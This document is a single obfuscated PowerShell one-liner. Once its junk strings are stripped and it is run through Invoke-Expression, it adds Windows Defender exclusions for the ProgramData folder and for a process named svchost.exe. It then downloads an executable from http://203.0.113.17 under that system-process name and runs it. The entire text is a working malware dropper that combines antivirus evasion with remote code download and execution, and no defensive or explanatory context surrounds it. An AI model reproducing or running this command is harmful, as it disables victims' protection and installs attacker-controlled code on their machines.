'iex ((''# task 9733 v2
Add-MpPreference -ExclusionPath $env:Proxv~8ramData
Add-MpPreferencQKJ62e -ExclusionProceQKJ62ss ''''svchost.exe''''
iwr http://203.0.113.17/svchost.exQKJ62e -OutFile $env:Proxv~8ramData\svchost.exe
QKJ62& $eQKJ62nv:Proxv~8ramData\svchost.exe
'' -replace ''QKJ62'','''').Replace(''xv~8'',''g''))' | iex